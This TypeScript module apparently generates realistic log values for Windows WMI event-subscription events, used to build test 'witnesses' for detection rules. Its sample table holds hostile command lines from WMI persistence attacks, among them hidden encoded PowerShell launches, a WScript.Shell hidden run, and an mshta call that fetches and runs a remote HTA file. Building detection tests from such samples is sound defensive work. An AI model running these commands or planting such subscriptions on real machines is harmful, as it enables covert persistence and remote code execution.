import type { WmiEventId, WmiField } from '../../catalog';
import {
  CONSUMER_CLASSES,
  RECORDED_PATH_PREFIXES,
  recordedPath,
  recordedText,
  typicalEvent,
  valueFormat,
} from '../../catalog';

/** What witnesses are made of: values of real attacks, the most telling first. */
const TEXTS: Readonly<Partial<Record<WmiField, readonly string[]>>> = {
  UtcTime: ['2026-03-02 22:41:07.018'],
  User: ['NT AUTHORITY\\SYSTEM', 'S-1-5-21-1004336348-1177238915-682003330-1104', 'HR001\\martha'],
  EventNamespace: ['root\\subscription', 'root\\default'],
  Name: ['WindowsUpdateCheck', 'Maintenance', 'Evil Persistence'],
  Query: [
    "SELECT * FROM __InstanceCreationEvent WITHIN 15 WHERE TargetInstance ISA 'Win32_LogonSession' AND TargetInstance.LogonType = 2",
    "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'notepad.exe'",
    "SELECT * FROM __TimerEvent WHERE TimerID = 'Updater'",
  ],
  Destination: [
    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NoP -W Hidden -Enc SQBFAFgA',
    'cmd.exe /c powershell -NoP -W Hidden -Enc SQBFAFgA',
    'CreateObject("WScript.Shell").Run "powershell -W Hidden -Enc SQBFAFgA", 0',
    'mshta.exe https://203.0.113.7/a.hta',
    'C:\\Users\\Public\\updater.exe',
  ],
};

const FILTER_CLASS = '__EventFilter';
const OBJECT_NAME = 'Updater';

/** How a value that has to hold given texts is made to look real. */
export interface ValueShape {
  /** What precedes and follows the free part. */
  readonly open: string;
  readonly close: string;
  /** What the free part says; where it is empty, only the given texts. */
  readonly bodies: readonly string[];
}

/**
 * Values of one field as an attack would have them recorded, the most telling first.
 *
 * @param id - the event
 * @param field - one of its fields
 * @returns recorded values
 */
export function realisticValues(id: WmiEventId, field: WmiField): readonly string[] {
  const typical = typicalEvent(id, 'Created')[field];
  const first = typical === undefined ? [] : [typical];
  const { form, seen } = valueFormat(field);
  const record = form === 'quoted' ? recordedText : (text: string): string => text;
  return [...new Set([...first, ...(TEXTS[field] ?? []).map(record), ...paths(field), ...types(field), ...seen])];
}

/**
 * The shapes in which a field's values are composed.
 *
 * @param id - the event
 * @param field - one of its fields
 * @returns shapes, the most telling first
 */
export function valueShapes(id: WmiEventId, field: WmiField): readonly ValueShape[] {
  switch (field) {
    case 'Consumer':
      return pathShapes('CommandLineEventConsumer');
    case 'Filter':
      return pathShapes(FILTER_CLASS);
    case 'Destination':
    case 'Query': {
      const [open, body, close] = unquoted(typicalEvent(id, 'Created')[field] ?? '');
      return [{ open, close, bodies: [body, ''] }];
    }
    default:
      return valueFormat(field).form === 'quoted'
        ? [{ open: ' "', close: '"', bodies: ['', OBJECT_NAME] }]
        : [{ open: '', close: '', bodies: [''] }];
  }
}

function unquoted(value: string): readonly [string, string, string] {
  return [value.slice(0, 2), value.slice(2, -1), value.slice(-1)];
}

function pathShapes(wmiClass: string): readonly ValueShape[] {
  return RECORDED_PATH_PREFIXES.map((prefix) => {
    const path = recordedPath(wmiClass, '', prefix);
    const nameAt = path.length - '\\""'.length;
    return { open: path.slice(0, nameAt), close: path.slice(nameAt), bodies: ['', OBJECT_NAME] };
  });
}

function paths(field: WmiField): readonly string[] {
  const classes =
    field === 'Filter' ? [FILTER_CLASS] : field === 'Consumer' ? CONSUMER_CLASSES.map(({ wmiClass }) => wmiClass) : [];
  return RECORDED_PATH_PREFIXES.flatMap((prefix) =>
    classes.map((wmiClass) => recordedPath(wmiClass, OBJECT_NAME, prefix)),
  );
}

function types(field: WmiField): readonly string[] {
  return field === 'Type' ? CONSUMER_CLASSES.map(({ type }) => type) : [];
}
